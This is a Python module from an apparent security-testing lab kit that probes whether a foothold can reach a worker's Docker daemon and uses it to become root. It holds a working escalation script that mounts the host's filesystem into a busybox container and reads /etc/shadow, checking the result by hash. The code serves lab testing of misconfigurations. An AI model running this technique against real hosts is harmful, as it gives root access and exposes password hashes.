"""What the techniques against dockerd have in common: a container is all that root takes."""

from __future__ import annotations

from typing import TYPE_CHECKING

from labkit.errors import CommandFailed, ProbeError, ProbeTimeout
from labkit.techniques._reach import inside, place, run
from labkit.techniques._verdict import Verdict

if TYPE_CHECKING:
    from labkit.lab import Lab, Output

__all__ = ["SOCKET", "become_root"]

SOCKET = "/run/docker.sock"
WORKER, ONLY_ROOT_READS = "worker1", "/etc/shadow"
#: docker's client tells a closed port and a forbidden one with the same words; curl does not.
KNOCK = ["curl", "--silent", "--show-error", "--verbose", "--noproxy", "*", "--max-time", "5"]
REFUSALS = ("Permission denied", "Connection refused")
#: The image is busybox, brought along; the machine is mounted, and nothing of it changed.
TAKE = """
set -eu
export DOCKER_HOST=$1
image=labkit-attack-$$
trap 'docker rmi --force "$image" >/dev/null 2>&1' EXIT
tar --directory=/ --create usr/bin/busybox 2>/dev/null | docker import - "$image" >/dev/null
docker run --rm --network=none --volume=/:/machine:ro "$image" \\
  /usr/bin/busybox sha256sum "/machine$2"
"""


def become_root(
    lab: Lab, technique: str, foothold: str, host: str, *, user: str | None = None
) -> Verdict:
    """Read what only root may read on a worker, by way of its dockerd.

    Parameters
    ----------
    lab : Lab
    technique, foothold : str
    host : str
        As docker's client takes it: ``unix://...`` or ``tcp://NAME:PORT``.
    user : str, optional
        Who does it on the foothold's machine; without it, the foothold's own user.

    Returns
    -------
    Verdict
    """
    kind, _, where = host.partition("://")
    if kind == "tcp":
        inside(lab, where.partition(":")[0])
        knock = [*KNOCK, f"http://{where}/_ping"]
        door = f"tcp port {where.partition(':')[2]} of dockerd@{WORKER}"
    else:
        knock = [*KNOCK, "--unix-socket", where, "http://docker/_ping"]
        door = f"{where} of dockerd@{WORKER}"
    asked = _do(lab, foothold, knock, user)
    refusal = next((word.lower() for word in REFUSALS if word in asked.error), "")
    if asked.exit_code and refusal:
        reason, tried = refusal, (f"called the {door}",)
        return Verdict(technique, lab.mode, foothold, False, reason, tried, _control(lab))
    if asked.exit_code:
        raise ProbeError(f"{technique}: curl exited with {asked.exit_code}", evidence=_tail(asked))
    took = _do(lab, foothold, ["sh", "-c", TAKE, "-", host, ONLY_ROOT_READS], user)
    truth = run(lab, WORKER, ["sha256sum", ONLY_ROOT_READS], check=True).text.split()[0]
    if took.exit_code or truth not in took.text:
        raise ProbeError(
            f"{technique}: {door} answers, but {ONLY_ROOT_READS} was not read", evidence=_tail(took)
        )
    evidence = (
        f"called the {door}, and it answered",
        "started a container with the machine's / mounted in it",
        f"read: {ONLY_ROOT_READS} of {WORKER}, which only root may; the right bytes by their hash",
    )
    return Verdict(technique, lab.mode, foothold, True, "dockerd does what it is told", evidence)


def _do(lab: Lab, foothold: str, argv: list[str], user: str | None) -> Output:
    node, usual, prefix = place(lab, foothold)
    try:
        return lab.exec(node, [*prefix, *argv], user=user or usual, check=False)
    except CommandFailed as error:
        raise ProbeTimeout(error.message, evidence=error.evidence) from error


def _tail(output: Output) -> list[str]:
    return output.error.strip().splitlines()[-5:]


def _control(lab: Lab) -> str:
    run(lab, WORKER, ["docker", f"--host=unix://{SOCKET}", "version"], check=True)
    return "root on the worker commands dockerd through its socket"
